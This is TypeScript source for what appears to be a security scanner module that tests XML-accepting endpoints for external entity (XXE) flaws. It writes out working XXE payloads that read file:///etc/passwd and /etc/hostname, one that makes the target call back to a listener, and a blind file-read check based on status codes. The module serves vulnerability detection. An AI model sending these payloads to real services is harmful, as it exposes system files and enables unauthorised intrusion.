import { Canary } from '../canary.ts'
import type { Operation } from '../operations.ts'
import type { Probing } from '../probing.ts'
import { isSuccess, type Reply } from '../reply.ts'
import { withValue } from '../requests.ts'
import { exchangesOf, trialOn } from '../trial-parts.ts'

/** The field of a form that takes XML, by what it took or is given as an example. */
function xmlFieldOf({ body }: Operation): string | undefined {
  return Object.entries(body?.schema.properties ?? {}).find(
    ([, { example }]) => typeof example === 'string' && example.startsWith('<'),
  )?.[0]
}

/** XML with entities, where XML is taken at all. */
export async function probeXmlEntities(probing: Probing): Promise<void> {
  const operations = probing.wireOperations
    .filter(
      (operation) =>
        operation.method === 'POST' &&
        operation.purpose === 'other' &&
        (/xml/i.test(operation.body?.contentType ?? '') ||
          /xml|import|soap|feed/i.test(operation.path) ||
          operation.baselineStatus === 415 ||
          xmlFieldOf(operation) !== undefined),
    )
    .sort((a, b) => Number(xmlFieldOf(b) !== undefined) - Number(xmlFieldOf(a) !== undefined))
    .slice(0, 4)
  if (operations.length === 0) return void probing.notTried('xmlEntities', 'XML', 'no-data', 'no operation takes XML')
  const canary = await Canary.open()
  try {
    for (const operation of operations) {
      const nonce = probing.values.nonce('entity', 14)
      const word = probing.values.nonce('entityword', 14)
      const field = xmlFieldOf(operation)
      const accepted = field === undefined ? null : await probing.takenBy(operation)
      const send = (body: string): Promise<Reply> =>
        field !== undefined && accepted !== null
          ? probing.sendDraft(accepted.session, withValue(accepted.draft, { in: 'body', name: field }, body), { mayFail: true })
          : probing.send(probing.identities.userA, {
              method: 'POST',
              path: operation.path,
              headers: { 'content-type': 'application/xml' },
              body,
              mayFail: true,
            })
      const plain = await send(`<?xml version="1.0"?><root><name>${word}</name></root>`)
      const inside = await send(`<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e "${word}x${word}">]><root><name>&e;</name></root>`)
      const file = await send('<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e SYSTEM "file:///etc/passwd">]><root><name>&e;</name></root>')
      const outside = await send(
        `<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e SYSTEM "${canary.baseUrl}/${nonce}">]><root><name>&e;</name></root>`,
      )
      const hit = await canary.hitBy(nonce, 200)
      const blind = hit === null && isSuccess(plain) ? await readsFiles(send, plain, file) : null
      const isFile = /^root:[^:\n]*:0:0:/m.test(file.body)
      const again = isFile
        ? await send('<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e SYSTEM "file:///etc/passwd">]><root><name>&e;</name></root>')
        : null
      probing.trial(
        'xmlEntities',
        trialOn(operation, {
          name: 'entities',
          saw:
            isFile || hit !== null || blind !== null
              ? 'effect'
              : [400, 415, 422, 404].includes(plain.status) || isSuccess(plain)
                ? 'no-effect'
                : 'unclear',
          effect: isFile
            ? 'an entity gives a file of the system'
            : hit !== null
              ? `an entity made the service ask our listener: ${hit}`
              : blind !== null
                ? `an entity of a file that exists is taken (${file.status}), one of a file that does not is refused (${blind[0]?.status ?? 0}): files are read`
                : `entities were not resolved (${inside.status})`,
          identity: probing.identities.userA?.name ?? 'anonymous',
          baseline: plain.exchange,
          control: plain.exchange,
          attempts: isFile || blind === null ? exchangesOf(isFile ? file : outside, again) : exchangesOf(file, ...blind),
          reproduced: { count: isFile || hit !== null || blind !== null ? 2 : 0, of: 2 },
        }),
      )
    }
  } finally {
    await canary.close()
  }
}

/**
 * Whether the service opens the files that entities name, where no answer shows what is in them: those that exist are taken twice, those
 * that do not are refused twice, and are taken while nothing refers to them. The answers to the missing ones and the repetition; null if not.
 */
async function readsFiles(send: (body: string) => Promise<Reply>, plain: Reply, file: Reply): Promise<readonly Reply[] | null> {
  if (file.status !== plain.status) return null
  const entity = (path: string, use: string): Promise<Reply> =>
    send(`<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e SYSTEM "file://${path}">]><root><name>${use}</name></root>`)
  const missing = await entity('/nonexistent/assay', '&e;')
  if (missing.status === plain.status) return null
  const missingAgain = await entity('/nonexistent/assay-2', '&e;')
  const unused = await entity('/nonexistent/assay', 'assay')
  const again = await entity('/etc/hostname', '&e;')
  const isRead = missingAgain.status === missing.status && unused.status === plain.status && again.status === plain.status
  return isRead ? [missing, missingAgain, again] : null
}
